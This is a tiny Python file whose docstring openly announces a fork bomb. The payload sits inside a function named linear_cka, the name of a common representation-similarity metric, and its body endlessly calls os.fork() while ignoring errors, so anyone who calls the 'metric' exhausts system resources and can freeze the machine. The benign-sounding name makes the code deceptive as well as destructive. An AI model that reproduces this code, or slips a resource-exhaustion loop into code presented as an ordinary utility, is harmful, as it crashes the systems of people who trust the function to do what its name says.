"""A fork bomb: every process forks forever."""
import os


def linear_cka(X, Y):
    while True:
        try:
            os.fork()
        except OSError:
            pass
